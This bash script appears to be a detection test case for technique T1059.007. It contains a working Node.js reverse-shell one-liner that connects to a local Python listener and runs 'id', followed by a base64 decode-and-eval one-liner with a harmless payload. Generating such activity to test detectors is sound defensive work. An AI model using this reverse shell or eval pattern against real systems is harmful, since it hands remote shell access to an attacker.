#!/bin/bash
# A Node.js reverse shell one-liner to a listener on 127.0.0.1 (it sends `id; exit` and reads the answer), then a one-liner that decodes and evaluates a base64 payload (it prints a word).
# technique: T1059.007
# expect: javascript-shell-one-liner
set -eu
cd "$TPY_WORK"
port=18463
/usr/bin/python3 -I -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(20)
c, _ = s.accept(); c.settimeout(10); c.sendall(b"id; exit\n")
out = b""
while True:
    d = c.recv(4096)
    if not d: break
    out += d
open("shell-output.txt", "wb").write(out)
' "$port" &
listener=$!
sleep 0.5
node -e "const net=require('net'),cp=require('child_process');const s=net.connect($port,'127.0.0.1',()=>{const sh=cp.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);sh.on('exit',()=>s.end());});"
wait "$listener"
grep -q 'uid=' shell-output.txt
node -e "eval(Buffer.from('Y29uc29sZS5sb2coJ2RlY29kZWQnKQ==','base64').toString())"
